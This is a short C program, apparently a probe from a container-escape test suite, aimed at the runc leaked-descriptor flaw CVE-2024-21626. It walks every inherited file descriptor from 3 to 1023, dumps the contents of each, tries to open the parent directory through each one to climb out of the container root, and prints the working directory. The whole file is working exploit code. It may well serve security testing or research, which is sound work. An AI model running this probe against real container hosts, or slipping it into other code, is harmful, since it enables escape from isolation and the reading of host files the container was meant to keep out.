/* Reads every fd above stdio it might have inherited (runc CVE-2024-21626), and its cwd's parent. */
#include "attack.h"
#include <dirent.h>
int main(void) {
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        char label[32];
        snprintf(label, sizeof label, "fd %d", fd);
        lseek(fd, 0, SEEK_SET);
        dump_fd(label, fd);
        /* A directory fd: walk up from it. */
        int up = openat(fd, "..", O_RDONLY | O_DIRECTORY);
        if (up >= 0) printf("fd %d: .. opened\n", fd);
    }
    char cwd[4096];
    printf("cwd: %s\n", getcwd(cwd, sizeof cwd) ? cwd : "?");
    return 0;
}
